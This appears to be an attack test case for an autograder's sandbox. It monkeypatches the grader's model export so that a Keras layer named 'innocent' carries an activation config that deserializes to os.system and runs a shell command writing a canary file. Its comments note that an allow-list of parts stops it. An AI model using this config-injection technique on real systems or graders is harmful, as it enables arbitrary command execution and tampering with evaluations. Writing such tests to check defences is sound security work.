# tries: a model whose activation is the name of a function that starts programs
# must not: its code does not run in the grader
# would: code
# undefended: naive
# earns: 2
# stopped by: list of allowed parts

# %%
import autograder.engine.student as engine
original = engine.export_model
def crafted(model):
    data = original(model)
    data["architecture"]["config"]["layers"].append(evil())
    return data
engine.export_model = crafted

def evil():
    activation = {"module": "os", "class_name": "system", "config": {"command": f"echo > '{K.CANARY}'"}, "registered_name": "system"}
    return {"module": "keras.layers", "class_name": "Activation", "config": {"activation": activation, "name": "innocent"}, "registered_name": None}
